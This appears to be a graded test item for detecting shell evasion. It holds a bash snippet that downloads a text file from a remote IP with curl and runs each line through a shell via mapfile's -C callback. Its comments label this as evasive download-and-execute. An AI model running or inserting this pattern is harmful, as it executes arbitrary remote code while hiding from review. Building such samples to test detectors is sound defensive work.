# evasion: mapfile's -C callback runs every line it reads from a download, with no eval in sight
# grade: very hard; does: download-exec
run_line() { "${SHELL:-/bin/sh}" -c "$2"; }
mapfile -t -c 1 -C run_line lines < <(curl -fsS http://203.0.113.37/steps.txt)
